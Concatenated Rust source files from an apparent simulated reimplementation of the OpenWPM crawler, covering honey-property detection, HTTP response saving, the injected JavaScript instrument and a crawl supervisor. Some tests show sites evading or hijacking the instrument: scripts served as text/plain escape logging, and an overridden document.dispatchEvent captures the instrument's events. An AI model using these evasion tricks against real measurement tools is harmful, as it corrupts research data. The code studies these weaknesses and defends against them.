    pub fn is_iterator(&self) -> bool {
        self.total > 0 && self.hits * 10 >= self.total * 9
    }
}

/// Count how many of the honey names `script` accessed in `store`.
pub fn hits_for_script(
    store: &crate::records::RecordStore,
    names: &[String],
    script: &str,
) -> HoneyHits {
    let mut hit_names: Vec<&str> = store
        .js_calls
        .iter()
        .filter(|r| r.script_url == script && r.symbol.starts_with(HONEY_SYMBOL_PREFIX))
        .map(|r| r.symbol.rsplit('.').next().unwrap_or(""))
        .collect();
    hit_names.sort_unstable();
    hit_names.dedup();
    HoneyHits { hits: hit_names.len(), total: names.len() }
}

#[cfg(test)]
mod tests {
    use super::*;
    use browser::{FingerprintProfile, Os, Page, RunMode};
    use netsim::Url;
    use std::cell::RefCell;

    fn setup(count: u32) -> (Page, StoreHandle, Vec<String>) {
        let mut page = Page::new(
            FingerprintProfile::openwpm(Os::Ubuntu1804, RunMode::Regular),
            Url::parse("https://site.test/").unwrap(),
            None,
        );
        let store: StoreHandle = std::rc::Rc::new(RefCell::new(crate::records::RecordStore::new()));
        let names = install(&mut page, store.clone(), 99, count);
        (page, store, names)
    }

    #[test]
    fn names_are_deterministic_and_unique() {
        let a: Vec<String> = (0..20).map(|i| honey_name(5, i)).collect();
        let b: Vec<String> = (0..20).map(|i| honey_name(5, i)).collect();
        assert_eq!(a, b);
        let mut dedup = a.clone();
        dedup.sort();
        dedup.dedup();
        assert_eq!(dedup.len(), a.len());
    }

    #[test]
    fn iterator_script_trips_all_honey_properties() {
        let (mut page, store, names) = setup(8);
        page.run_script((
            "var sink = ''; for (var k in navigator) { sink += '' + navigator[k]; }",
            "https://fp.test/iterate.js",
        ))
        .unwrap();
        let hits = hits_for_script(&store.borrow(), &names, "https://fp.test/iterate.js");
        assert_eq!(hits.hits, 8, "iterator must touch every honey property");
        assert!(hits.is_iterator());
    }

    #[test]
    fn targeted_probe_misses_honey_properties() {
        let (mut page, store, names) = setup(8);
        page.run_script(("navigator.webdriver;", "https://bd.test/detect.js")).unwrap();
        let hits = hits_for_script(&store.borrow(), &names, "https://bd.test/detect.js");
        assert_eq!(hits.hits, 0);
        assert!(!hits.is_iterator());
    }

    #[test]
    fn honey_properties_are_invisible_values() {
        let (mut page, _store, names) = setup(2);
        let v = page
            .run_script((format!("navigator.{} === undefined", names[0]), "p.js"))
            .unwrap();
        assert_eq!(v, Value::Bool(true));
    }
}
