//! The HTTP instrument: request logging plus response-body saving.
//!
//! Real OpenWPM either stores all response bodies or only JavaScript files
//! (matched by `Content-Type` / `.js` extension). The filtered mode is the
//! one the silent-delivery attack (Listing 4) evades: JavaScript served as
//! `text/plain` without a `.js` extension, executed client-side via
//! `eval`, never enters the saved-scripts table. Sec. 6.2.3's advice —
//! don't filter under an active adversary — corresponds to
//! [`HttpSaveMode::Full`].

use netsim::{HttpRequest, HttpResponse};

use crate::config::HttpSaveMode;
use crate::records::{RecordStore, SavedScript};

/// Record observed requests.
pub fn record_requests(store: &mut RecordStore, requests: &[HttpRequest]) {
    store.http_requests.extend_from_slice(requests);
}

/// Record one response according to the save mode.
pub fn record_response(
    store: &mut RecordStore,
    resp: &HttpResponse,
    mode: HttpSaveMode,
    page_url: &str,
) {
    match mode {
        HttpSaveMode::Full => {
            store.http_responses.push(resp.clone());
            if resp.looks_like_javascript() {
                store.saved_scripts.push(SavedScript {
                    url: resp.url.to_string(),
                    body: resp.body.clone(),
                    page_url: page_url.to_owned(),
                });
            }
        }
        HttpSaveMode::JavascriptOnly => {
            if resp.looks_like_javascript() {
                store.saved_scripts.push(SavedScript {
                    url: resp.url.to_string(),
                    body: resp.body.clone(),
                    page_url: page_url.to_owned(),
                });
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use netsim::Url;

    fn resp(path: &str, ctype: &str, body: &str) -> HttpResponse {
        HttpResponse {
            url: Url::parse(&format!("https://x.test{path}")).unwrap(),
            status: 200,
            content_type: ctype.into(),
            body: body.into(),
        }
    }

    #[test]
    fn js_only_mode_saves_scripts() {
        let mut store = RecordStore::new();
        record_response(&mut store, &resp("/a.js", "text/javascript", "x()"), HttpSaveMode::JavascriptOnly, "p");
        assert_eq!(store.saved_scripts.len(), 1);
        assert!(store.http_responses.is_empty());
    }

    #[test]
    fn silent_delivery_evades_js_only_mode() {
        // Listing 4: text/plain without .js extension — invisible to the
        // filtered instrument…
        let mut store = RecordStore::new();
        let stealthy = resp("/cheat", "text/plain", "window.secret = 1;");
        record_response(&mut store, &stealthy, HttpSaveMode::JavascriptOnly, "p");
        assert!(store.saved_scripts.is_empty());
        // …but full mode still captures the body (Sec. 6.2.3).
        record_response(&mut store, &stealthy, HttpSaveMode::Full, "p");
        assert_eq!(store.http_responses.len(), 1);
        assert_eq!(store.http_responses[0].body, "window.secret = 1;");
    }

    #[test]
    fn full_mode_saves_everything_and_indexes_js() {
        let mut store = RecordStore::new();
        record_response(&mut store, &resp("/a.js", "text/javascript", "x()"), HttpSaveMode::Full, "p");
        record_response(&mut store, &resp("/img.png", "image/png", ""), HttpSaveMode::Full, "p");
        assert_eq!(store.http_responses.len(), 2);
        assert_eq!(store.saved_scripts.len(), 1);
    }
}
