//! Measurement instruments (one per OpenWPM instrument the paper studies).

pub mod honey;
pub mod http;
pub mod stealth;
pub mod vanilla;
pub mod watch;

use std::rc::Rc;

/// Script-name marker of the vanilla injected instrument; stack frames from
/// this script are skipped when attributing calls to an originating script
/// (OpenWPM's `getOriginatingScriptContext`).
pub const INSTRUMENT_SCRIPT_NAME: &str = "openwpm-instrument.js";

/// Extract the originating (non-instrument) script from a stack string of
/// `name@script:line` lines, innermost first.
pub fn originating_script(stack: &str) -> String {
    for line in stack.lines() {
        if let Some((_, rest)) = line.split_once('@') {
            let script = rest.rsplit_once(':').map(|(s, _)| s).unwrap_or(rest);
            if !script.contains(INSTRUMENT_SCRIPT_NAME) {
                return script.to_owned();
            }
        }
    }
    "unknown".to_owned()
}

/// Shared mutable handle to the record store used by instrument sinks.
pub type StoreHandle = Rc<std::cell::RefCell<crate::records::RecordStore>>;

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn originating_script_skips_instrument_frames() {
        let stack = "getOriginatingScriptContext@openwpm-instrument.js:5\n\
                     <anonymous>@openwpm-instrument.js:12\n\
                     probe@https://site.test/detector.js:44\n\
                     (toplevel)@https://site.test/detector.js:1\n";
        assert_eq!(originating_script(stack), "https://site.test/detector.js");
    }

    #[test]
    fn originating_script_handles_urls_with_colons() {
        let stack = "f@https://cdn.x.com/a.js:9\n";
        assert_eq!(originating_script(stack), "https://cdn.x.com/a.js");
    }

    #[test]
    fn all_instrument_stack_returns_unknown() {
        let stack = "a@openwpm-instrument.js:1\n";
        assert_eq!(originating_script(stack), "unknown");
    }
}
