//! The vanilla OpenWPM JavaScript instrument.
//!
//! Real OpenWPM injects a JavaScript file into every page, which overwrites
//! the APIs to be monitored with wrapper closures that report each access
//! through `document.dispatchEvent` with a randomly generated event id.
//! This module generates that script in MiniJS and registers the privileged
//! content-script listener. The detectable artefacts of Sec. 3.1.4 are all
//! *emergent* from this design:
//!
//! * wrappers are script functions, so `toString()` returns their source
//!   (Listing 1);
//! * the injected top-level function `getInstrumentJS` stays on `window`
//!   (the "+1 added custom function" of Table 2);
//! * wrapper frames appear in `Error.stack`;
//! * ancestor-prototype properties are flattened onto the first prototype
//!   (Fig. 2's pollution);
//! * messaging via the page-reachable `document.dispatchEvent` is
//!   hijackable (Listing 2) and the DOM injection is CSP-blockable.

use std::rc::Rc;

use browser::{Page, RealmWindow};
use jsengine::Value;

use crate::instrument::{originating_script, StoreHandle, INSTRUMENT_SCRIPT_NAME};
use crate::records::{JsCallRecord, JsOperation};

/// Deterministically derive the instrument's random event id from the
/// crawler seed (real OpenWPM draws it per page load; determinism here keeps
/// crawls reproducible).
pub fn event_id(seed: u64) -> String {
    let mut x = seed ^ 0xA076_1D64_78BD_642F;
    x ^= x >> 33;
    x = x.wrapping_mul(0xE995_3DFC_9B96_41C9);
    x ^= x >> 29;
    format!("owpm{x:012x}")
}

/// Which vintage of the instrument to generate. OpenWPM 0.10.0 left *two*
/// custom functions on `window` (`jsInstruments` and
/// `instrumentFingerprintingApis`, paper Sec. 3.2); later versions leave
/// one (`getInstrumentJS`). The OpenWPM-specific detectors of Table 6 probe
/// exactly these names.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Default)]
pub enum InstrumentVintage {
    /// OpenWPM ≥ 0.11: one leftover function.
    #[default]
    Modern,
    /// OpenWPM 0.10.0: two leftover functions.
    V0_10,
}

/// The instrument's constant function body. The per-visit event id is a
/// *parameter* (`eid`) rather than an embedded literal, which makes this
/// text identical across every visit and every worker — exactly one parse
/// per process through the compile cache. The page-visible behaviour is
/// unchanged: the id still only travels through the live
/// `document.dispatchEvent` call, which is how the hijack/fake-data attacks
/// of Listing 2 learn it.
const INSTRUMENT_BODY: &str = r#"function getInstrumentJS(w, eid) {
  var logSettings = { logCallStack: true };
  function getOriginatingScriptContext(logCallStack) {
    var stack = '';
    try { throw new Error('owpm-probe'); } catch (e) { stack = '' + e.stack; }
    return stack;
  }
  function logCall(symbol, operation, value, callContext) {
    var payload = { symbol: symbol, operation: operation, value: '' + value, callContext: callContext };
    var ev = new CustomEvent(eid, { detail: payload });
    w.document.dispatchEvent(ev);
  }
  function wrapAccessor(ownerProto, firstProto, propName, objectName) {
    var desc = Object.getOwnPropertyDescriptor(ownerProto, propName);
    if (!desc || !desc.get) { return; }
    var originalGetter = desc.get;
    var spec = { enumerable: true };
    spec.get = function () {
      const callContext = getOriginatingScriptContext(!!logSettings.logCallStack);
      logCall(objectName + '.' + propName, 'get', '', callContext);
      return originalGetter.call(this);
    };
    Object.defineProperty(firstProto, propName, spec);
  }
  function wrapMethod(ownerProto, firstProto, methodName, objectName) {
    var func = ownerProto[methodName];
    if (typeof func !== 'function') { return; }
    firstProto[methodName] = function () {
      const callContext = getOriginatingScriptContext(!!logSettings.logCallStack);
      logCall(objectName + '.' + methodName, 'call', arguments.length, callContext);
      return func.apply(this, arguments);
    };
  }
  var navProps = ['userAgent', 'webdriver', 'platform', 'language', 'languages', 'plugins', 'appVersion'];
  for (var i = 0; i < navProps.length; i++) {
    wrapAccessor(w.Navigator.prototype, w.Navigator.prototype, navProps[i], 'window.navigator');
  }
  wrapMethod(w.Navigator.prototype, w.Navigator.prototype, 'sendBeacon', 'window.navigator');
  var screenProps = ['width', 'height', 'availWidth', 'availHeight', 'availTop', 'availLeft', 'colorDepth', 'pixelDepth'];
  for (var j = 0; j < screenProps.length; j++) {
    wrapAccessor(w.Screen.prototype, w.Screen.prototype, screenProps[j], 'window.screen');
  }
  var docMethods = ['createElement', 'querySelector', 'getElementById', 'write'];
  for (var k = 0; k < docMethods.length; k++) {
    wrapMethod(w.Document.prototype, w.Document.prototype, docMethods[k], 'window.document');
  }
  // NOTE: ancestor-prototype methods are defined onto the FIRST prototype
  // (Document.prototype) — OpenWPM's prototype pollution (paper Fig. 2).
  var nodeMethods = ['appendChild', 'removeChild'];
  for (var m = 0; m < nodeMethods.length; m++) {
    wrapMethod(w.Node.prototype, w.Document.prototype, nodeMethods[m], 'window.document');
  }
  var etMethods = ['addEventListener'];
  for (var n = 0; n < etMethods.length; n++) {
    wrapMethod(w.EventTarget.prototype, w.Document.prototype, etMethods[n], 'window.document');
  }
  var canvasMethods = ['getContext', 'toDataURL'];
  for (var c = 0; c < canvasMethods.length; c++) {
    wrapMethod(w.HTMLCanvasElement.prototype, w.HTMLCanvasElement.prototype, canvasMethods[c], 'window.HTMLCanvasElement');
  }
}
"#;

/// 0.10.0 split the work over two top-level functions, both of which stayed
/// behind on `window` (the "2 added custom functions" of Table 2).
const V0_10_WRAPPERS: &str = "function jsInstruments(w, eid) { return getInstrumentJS(w, eid); }
function instrumentFingerprintingApis(w, eid) { return getInstrumentJS(w, eid); }
";

/// The constant (event-id-free) portion of the injected script for a
/// vintage. Only one or two unique bodies ever exist per process, so the
/// compile cache reduces instrument parsing to a handful of misses.
pub fn instrument_body_vintage(vintage: InstrumentVintage) -> String {
    match vintage {
        InstrumentVintage::Modern => INSTRUMENT_BODY.to_string(),
        InstrumentVintage::V0_10 => format!("{INSTRUMENT_BODY}{V0_10_WRAPPERS}"),
    }
}

/// The tiny per-visit trigger that hands the freshly drawn event id to the
/// (shared, already-compiled) instrument body. Unique per visit, so it is
/// deliberately *not* routed through the compile cache.
pub fn instrument_trigger(event_id: &str, vintage: InstrumentVintage) -> String {
    match vintage {
        InstrumentVintage::Modern => format!("getInstrumentJS(window, '{event_id}');"),
        InstrumentVintage::V0_10 => {
            format!("jsInstruments(window, '{event_id}');\ndelete window.getInstrumentJS;")
        }
    }
}

/// Generate the complete injected instrumentation script (body + trigger).
/// `event_id` is embedded in the source, exactly like OpenWPM's generated
/// injection.
pub fn instrument_source(event_id: &str) -> String {
    instrument_source_vintage(event_id, InstrumentVintage::Modern)
}

/// Vintage-aware generation (see [`InstrumentVintage`]).
pub fn instrument_source_vintage(event_id: &str, vintage: InstrumentVintage) -> String {
    format!(
        "{}{}\n",
        instrument_body_vintage(vintage),
        instrument_trigger(event_id, vintage)
    )
}

/// Register the content-script side: a privileged listener for the
/// instrument's event id that writes sanitised records. `page_url` is set
/// host-side (outside the page), which is why the fake-data attack cannot
/// spoof the visited site (Sec. 5.2).
pub fn register_sink(page: &mut Page, event_id: String, store: StoreHandle, page_url: String) {
    let sink: browser::EventSink = Rc::new(move |it, etype, event| {
        if etype != event_id {
            return;
        }
        let detail = match it.get_prop(&event, "detail") {
            Ok(d @ Value::Obj(_)) => d,
            _ => return,
        };
        let read = |it: &mut jsengine::Interp, key: &str| -> String {
            it.get_prop(&detail, key)
                .ok()
                .and_then(|v| it.to_string_value(&v).ok())
                .map(|s| s.to_string())
                .unwrap_or_default()
        };
        let symbol = read(it, "symbol");
        let operation = read(it, "operation");
        let value = read(it, "value");
        let call_context = read(it, "callContext");
        // Back-end sanitisation: bound field sizes (defence in depth on top
        // of SQL escaping at persistence time).
        let clamp = |mut s: String| {
            s.truncate(4096);
            s
        };
        // An unknown operation string means the event payload was forged
        // or corrupted; drop the record and count it rather than coercing
        // it into a plausible-looking `get`.
        let operation = match JsOperation::parse(&operation) {
            Some(op) => op,
            None => {
                store.borrow_mut().malformed_events += 1;
                obs::add("instrument.malformed_events", 1);
                obs::emit(obs::Event::new(0, "malformed_event").attr("op", operation));
                return;
            }
        };
        store.borrow_mut().js_calls.push(JsCallRecord {
            symbol: clamp(symbol),
            operation,
            value: clamp(value),
            script_url: clamp(originating_script(&call_context)),
            page_url: page_url.clone(),
            time_ms: it.now_ms,
        });
    });
    page.host.borrow_mut().event_sinks.push(sink);
}

/// Install the vanilla instrument into a page: register the sink, then
/// inject the script via the DOM (CSP applies!), and arm the *asynchronous*
/// frame hook that re-runs `getInstrumentJS` in each new frame — on the job
/// queue, which is the race Listing 3 wins.
///
/// Returns `false` when the page's CSP blocked the injection (the page then
/// runs entirely un-instrumented and a `csp_report` was emitted).
pub fn install(page: &mut Page, seed: u64, store: StoreHandle, page_url: String) -> bool {
    install_vintage(page, seed, store, page_url, InstrumentVintage::Modern)
}

/// Vintage-aware installation (fingerprint-surface stability experiments,
/// paper Sec. 3.2 / RQ2).
pub fn install_vintage(
    page: &mut Page,
    seed: u64,
    store: StoreHandle,
    page_url: String,
    vintage: InstrumentVintage,
) -> bool {
    let id = event_id(seed);
    register_sink(page, id.clone(), store, page_url);
    // The injected file splits into a constant body (compiled once per
    // process via the shared cache) and a per-visit trigger carrying the
    // event id. Only the DOM injection of the body is CSP-gated — a strict
    // policy still blocks the instrument and emits exactly one csp_report.
    let body = instrument_body_vintage(vintage);
    let injected = match jsengine::compile_cached(&body, INSTRUMENT_SCRIPT_NAME) {
        Ok(compiled) => page.dom_inject_script(&compiled).is_ok(),
        Err(_) => false,
    };
    if injected {
        let _ = page.run_script((instrument_trigger(&id, vintage), INSTRUMENT_SCRIPT_NAME));
    }
    // Frame instrumentation: scheduled, not synchronous.
    let hook: browser::FrameHook = Rc::new(move |it, rw: RealmWindow| {
        let g = Value::Obj(it.global);
        if let Ok(f @ Value::Obj(fid)) = it.get_prop(&g, "getInstrumentJS") {
            if it.heap.get(fid).is_callable() {
                let _ = it.call(f, g, &[Value::Obj(rw.window), Value::str(&id)]);
            }
        }
    });
    page.host.borrow_mut().frame_async_hooks.push(hook);
    injected
}

#[cfg(test)]
mod tests {
    use super::*;
    use browser::{CspPolicy, FingerprintProfile, Os, Page, RunMode};
    use netsim::Url;
    use std::cell::RefCell;

    fn fresh_page(csp: Option<CspPolicy>) -> Page {
        Page::new(
            FingerprintProfile::openwpm(Os::Ubuntu1804, RunMode::Regular),
            Url::parse("https://site.test/").unwrap(),
            csp,
        )
    }

    fn fresh_store() -> StoreHandle {
        Rc::new(RefCell::new(crate::records::RecordStore::new()))
    }

    #[test]
    fn event_id_is_deterministic_and_distinct() {
        assert_eq!(event_id(7), event_id(7));
        assert_ne!(event_id(7), event_id(8));
        assert!(event_id(1).starts_with("owpm"));
    }

    #[test]
    fn instrument_script_parses_and_records_access() {
        let mut page = fresh_page(None);
        let store = fresh_store();
        assert!(install(&mut page, 42, store.clone(), "https://site.test/".into()));
        page.run_script(("navigator.userAgent;", "https://site.test/app.js")).unwrap();
        let recs = store.borrow();
        assert_eq!(recs.js_calls.len(), 1);
        let r = &recs.js_calls[0];
        assert_eq!(r.symbol, "window.navigator.userAgent");
        assert_eq!(r.operation, JsOperation::Get);
        assert_eq!(r.script_url, "https://site.test/app.js");
        assert_eq!(r.page_url, "https://site.test/");
    }

    #[test]
    fn wrapped_apis_still_work() {
        let mut page = fresh_page(None);
        let store = fresh_store();
        install(&mut page, 42, store.clone(), "p".into());
        let ua = page.run_script(("navigator.userAgent", "s.js")).unwrap();
        assert!(ua.as_str().unwrap().contains("Firefox"));
        let el = page
            .run_script(("document.createElement('div').tagName", "s.js"))
            .unwrap();
        assert_eq!(el.as_str().unwrap(), "DIV");
        let w = page.run_script(("screen.width", "s.js")).unwrap();
        assert_eq!(w, Value::Num(2560.0));
        assert!(store.borrow().js_calls.len() >= 3);
    }

    #[test]
    fn tostring_of_wrapped_function_leaks_wrapper_source() {
        // Paper Listing 1: instrumented functions no longer render as
        // native code.
        let mut page = fresh_page(None);
        let store = fresh_store();
        install(&mut page, 42, store, "p".into());
        let out = page
            .run_script(("document.createElement.toString()", "s.js"))
            .unwrap();
        let text = out.as_str().unwrap().to_string();
        assert!(!text.contains("[native code]"), "got: {text}");
        assert!(text.contains("getOriginatingScriptContext"), "got: {text}");
    }

    #[test]
    fn get_instrument_js_left_on_window() {
        let mut page = fresh_page(None);
        let store = fresh_store();
        install(&mut page, 42, store, "p".into());
        let v = page.run_script(("typeof window.getInstrumentJS", "s.js")).unwrap();
        assert_eq!(v.as_str().unwrap(), "function");
    }

    #[test]
    fn stack_traces_expose_instrument_frames() {
        let mut page = fresh_page(None);
        let store = fresh_store();
        install(&mut page, 42, store, "p".into());
        let v = page
            .run_script((
                r#"
                var trace = '';
                var saved = document.addEventListener;
                document.addEventListener('x', function () {});
                try { throw new Error('probe'); } catch (e) { trace = '' + e.stack; }
                // Accessing an instrumented getter inside a function whose
                // error we capture mid-wrapper requires the wrapper itself
                // to throw; instead check the wrapper source directly via a
                // stack captured during a wrapped call:
                var captured = '';
                var orig = document.dispatchEvent;
                document.dispatchEvent = function (ev) {
                    captured = ev.detail ? ev.detail.callContext : '';
                    return orig.call(document, ev);
                };
                navigator.userAgent;
                document.dispatchEvent = orig;
                captured
                "#,
                "https://site.test/attack.js",
            ))
            .unwrap();
        let stack = v.as_str().unwrap().to_string();
        assert!(
            stack.contains(INSTRUMENT_SCRIPT_NAME),
            "wrapper frames missing from: {stack}"
        );
    }

    #[test]
    fn prototype_pollution_flattens_ancestor_methods() {
        // Fig. 2: Node.prototype/EventTarget.prototype methods appear as own
        // properties of Document.prototype after instrumentation.
        let mut page = fresh_page(None);
        let store = fresh_store();
        install(&mut page, 42, store, "p".into());
        let v = page
            .run_script((
                "Object.getOwnPropertyNames(Document.prototype).includes('appendChild') && \
                 Object.getOwnPropertyNames(Document.prototype).includes('addEventListener')",
                "s.js",
            ))
            .unwrap();
        assert_eq!(v, Value::Bool(true));
        // An un-instrumented client has them only on the ancestors.
        let mut clean = fresh_page(None);
        let v = clean
            .run_script((
                "Object.getOwnPropertyNames(Document.prototype).includes('appendChild')",
                "s.js",
            ))
            .unwrap();
        assert_eq!(v, Value::Bool(false));
    }

    #[test]
    fn csp_blocks_installation() {
        let mut page = fresh_page(Some(CspPolicy::strict("/csp")));
        let store = fresh_store();
        assert!(!install(&mut page, 42, store.clone(), "p".into()));
        // No instrumentation: accesses unrecorded, window clean.
        page.run_script(("navigator.userAgent;", "s.js")).unwrap();
        assert!(store.borrow().js_calls.is_empty());
        let v = page.run_script(("typeof window.getInstrumentJS", "s.js")).unwrap();
        assert_eq!(v.as_str().unwrap(), "undefined");
    }
}
