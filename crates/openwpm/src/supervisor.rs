//! The supervised crawl executor.
//!
//! Real OpenWPM wraps every site visit in a BrowserManager watchdog:
//! crashed browsers are restarted, hung visits are killed on a timeout,
//! failed commands are retried with backoff, and sites that exhaust their
//! retries are recorded in `crawl_history`/`incomplete_visits` instead of
//! aborting the crawl. The paper's reliability analysis depends on this
//! machinery: crawl completeness is the denominator of every reported
//! rate, so a crawler that dies (or silently skips) on the first flaky
//! site produces tables that cannot be trusted.
//!
//! [`run_supervised`] reproduces that layer on top of
//! [`run_parallel`](crate::run_parallel):
//!
//! * every visit attempt runs under `catch_unwind`, so a panicking visit
//!   poisons nothing — the worker's browser state is rebuilt and the site
//!   retried;
//! * injected faults (see [`crate::fault`]) are resolved *before* the
//!   visit, per `(fault key, attempt)`, keeping the crawl deterministic
//!   under any worker count;
//! * hangs are ended by a simulated-clock watchdog: the visit timeout is
//!   charged to the crawl clock and the browser restarted;
//! * retries follow an exponential backoff [`RetryPolicy`] with a per-site
//!   attempt cap; exhausted sites degrade gracefully into
//!   [`VisitOutcome::Failed`] with a typed [`FailureReason`];
//! * a per-item completion callback lets callers checkpoint finished work,
//!   and a `prior` vector replays checkpointed outcomes without
//!   re-visiting — the resume path.
//!
//! All time here is simulated (milliseconds on a crawl clock), never
//! wall-clock: results must not depend on host speed or scheduling.

use std::panic::{catch_unwind, AssertUnwindSafe};

use crate::fault::{FaultInjector, FaultKind, FaultPlan};
use crate::manager::{panic_message, run_parallel};
use obs::Event;

/// Why a visit attempt (or a whole site) failed.
#[derive(Clone, Debug, PartialEq, Eq, Hash)]
pub enum FailureReason {
    BrowserCrash,
    /// Visit exceeded the watchdog timeout and was killed.
    Timeout,
    NavigationError,
    TabCrash,
    TransientHttp,
    /// The visit spec's URL does not parse — the visit can never succeed,
    /// but the browser is healthy; the supervisor records the failure
    /// instead of crashing the worker.
    BadUrl,
    /// The visit code itself panicked (caught by `catch_unwind`).
    Panic,
    /// A reason string this build does not recognise — typically a
    /// checkpoint written by a newer (or older) build. Preserving it as
    /// data instead of dropping the line keeps resume lossless across
    /// version skew; the string round-trips through [`FailureReason::as_str`].
    Unknown(String),
}

impl FailureReason {
    pub fn as_str(&self) -> &str {
        match self {
            FailureReason::BrowserCrash => "browser_crash",
            FailureReason::Timeout => "timeout",
            FailureReason::NavigationError => "navigation_error",
            FailureReason::TabCrash => "tab_crash",
            FailureReason::TransientHttp => "transient_http",
            FailureReason::BadUrl => "bad_url",
            FailureReason::Panic => "panic",
            FailureReason::Unknown(s) => s,
        }
    }

    /// The known (non-[`FailureReason::Unknown`]) reasons, in reporting
    /// order.
    pub fn all() -> [FailureReason; 7] {
        [
            FailureReason::BrowserCrash,
            FailureReason::Timeout,
            FailureReason::NavigationError,
            FailureReason::TabCrash,
            FailureReason::TransientHttp,
            FailureReason::BadUrl,
            FailureReason::Panic,
        ]
    }

    /// Strict inverse of [`FailureReason::as_str`]: only exact canonical
    /// names of known reasons parse. Same-build artifacts (archive
    /// bundles) use this — an unrecognised name there means corruption.
    pub fn parse(s: &str) -> Option<FailureReason> {
        FailureReason::all().into_iter().find(|r| r.as_str() == s)
    }

    /// Total decode for cross-build artifacts (checkpoints): a name this
    /// build does not know becomes [`FailureReason::Unknown`] instead of
    /// being dropped as a torn line.
    pub fn decode(s: &str) -> FailureReason {
        FailureReason::parse(s).unwrap_or_else(|| FailureReason::Unknown(s.to_string()))
    }

    fn from_fault(kind: FaultKind) -> FailureReason {
        match kind {
            FaultKind::BrowserCrash => FailureReason::BrowserCrash,
            FaultKind::Hang => FailureReason::Timeout,
            FaultKind::NavigationError => FailureReason::NavigationError,
            FaultKind::TabCrash => FailureReason::TabCrash,
            FaultKind::TransientHttp => FailureReason::TransientHttp,
        }
    }
}

/// How often and how patiently a failed visit is retried.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct RetryPolicy {
    /// Total attempts per site (first try included). Must be ≥ 1.
    pub max_attempts: u32,
    /// Backoff before retry `k` (1-based) is `base_backoff_ms << (k - 1)`,
    /// capped at `max_backoff_ms` — classic bounded exponential backoff.
    pub base_backoff_ms: u64,
    pub max_backoff_ms: u64,
}

impl Default for RetryPolicy {
    fn default() -> RetryPolicy {
        RetryPolicy { max_attempts: 3, base_backoff_ms: 1_000, max_backoff_ms: 30_000 }
    }
}

impl RetryPolicy {
    /// No retries at all: one attempt, failures are final.
    pub fn none() -> RetryPolicy {
        RetryPolicy { max_attempts: 1, ..RetryPolicy::default() }
    }

    /// Simulated backoff charged before retry number `retry` (1-based).
    pub fn backoff_ms(&self, retry: u32) -> u64 {
        let shift = (retry.saturating_sub(1)).min(20);
        (self.base_backoff_ms << shift).min(self.max_backoff_ms)
    }
}

/// Supervisor knobs. `Copy` so scan configs can embed it with
/// struct-update syntax.
#[derive(Clone, Copy, Debug)]
pub struct SupervisorConfig {
    pub retry: RetryPolicy,
    /// Watchdog limit per visit on the simulated clock.
    pub visit_timeout_ms: u64,
    pub faults: FaultPlan,
    /// If set, only the first `budget` not-yet-completed items are
    /// visited; the rest come back [`VisitOutcome::Interrupted`]. This
    /// models a crawl killed midway deterministically (by item index, not
    /// by racy scheduling), which is what checkpoint/resume tests need.
    pub visit_budget: Option<usize>,
}

impl Default for SupervisorConfig {
    fn default() -> SupervisorConfig {
        SupervisorConfig {
            retry: RetryPolicy::default(),
            visit_timeout_ms: 60_000,
            faults: FaultPlan::none(),
            visit_budget: None,
        }
    }
}

/// How one supervised item ended.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum VisitOutcome<R> {
    Completed(R),
    /// All attempts exhausted; the site is skipped, not the crawl.
    Failed { reason: FailureReason, attempts: u32 },
    /// Never visited — the run stopped (visit budget) before reaching it.
    Interrupted,
}

impl<R> VisitOutcome<R> {
    pub fn completed(&self) -> Option<&R> {
        match self {
            VisitOutcome::Completed(r) => Some(r),
            _ => None,
        }
    }

    pub fn is_completed(&self) -> bool {
        matches!(self, VisitOutcome::Completed(_))
    }
}

/// Caller-provided identity of one work item, used for fault draws and
/// reporting.
#[derive(Clone, Debug)]
pub struct ItemMeta {
    /// Human-readable label (e.g. the site URL) for failure records.
    pub label: String,
    /// Deterministic fault-draw key (e.g. the site's rank).
    pub fault_key: u64,
    /// Whether the population marks this item as flaky (boosted rates).
    pub flaky: bool,
}

/// Aggregated crawl accounting — OpenWPM's `crawl_history` rollup.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct CrawlSummary {
    pub total: usize,
    pub completed: usize,
    pub failed: usize,
    pub interrupted: usize,
    /// Completed on a retry rather than the first attempt.
    pub recovered: usize,
    /// `(reason, sites)` for exhausted sites, ordered as
    /// [`FailureReason::all`], zero-count reasons omitted.
    pub failures_by_reason: Vec<(FailureReason, usize)>,
    /// Visit attempts across all sites (≥ total visited).
    pub attempts: u64,
    /// Browser state rebuilds (crash, hang, tab crash, panic).
    pub restarts: u64,
    /// Simulated milliseconds lost to faults: timeouts plus backoff.
    pub lost_ms: u64,
    /// Torn or corrupted checkpoint lines dropped during resume.
    pub checkpoint_lines_dropped: usize,
}

impl CrawlSummary {
    /// Fraction of items that completed (the coverage denominator).
    pub fn completion_rate(&self) -> f64 {
        if self.total == 0 {
            return 1.0;
        }
        self.completed as f64 / self.total as f64
    }

    /// One-line coverage statement printed under every table.
    pub fn coverage_line(&self) -> String {
        let mut line = format!(
            "coverage: {}/{} sites completed ({:.1}%)",
            self.completed,
            self.total,
            100.0 * self.completion_rate()
        );
        if self.failed > 0 {
            let detail: Vec<String> = self
                .failures_by_reason
                .iter()
                .map(|(r, n)| format!("{} {}", n, r.as_str()))
                .collect();
            line.push_str(&format!("; {} failed ({})", self.failed, detail.join(", ")));
        }
        if self.interrupted > 0 {
            line.push_str(&format!("; {} interrupted", self.interrupted));
        }
        if self.checkpoint_lines_dropped > 0 {
            line.push_str(&format!(
                "; {} checkpoint lines dropped",
                self.checkpoint_lines_dropped
            ));
        }
        line
    }
}

/// Everything a supervised run produces.
#[derive(Clone, Debug)]
pub struct CrawlOutcome<R> {
    /// Per-item outcome, in item order.
    pub outcomes: Vec<VisitOutcome<R>>,
    /// Visit attempts consumed per item this run (0 for replayed priors
    /// and interrupted items).
    pub attempts: Vec<u32>,
    pub summary: CrawlSummary,
}

/// Per-item bookkeeping carried back through `run_parallel`.
struct ItemRun<R> {
    outcome: VisitOutcome<R>,
    attempts: u64,
    restarts: u64,
    lost_ms: u64,
    attempts_final: u32,
    /// Telemetry events buffered during this item's visit scope; written
    /// to the journal in item order by the coordinator.
    trace: Vec<Event>,
}

/// Supervised parallel execution: fault injection, watchdog timeouts,
/// retry with backoff, browser restarts, graceful failure records, and
/// checkpoint/resume hooks.
///
/// * `meta(item)` names the item and keys its fault draws;
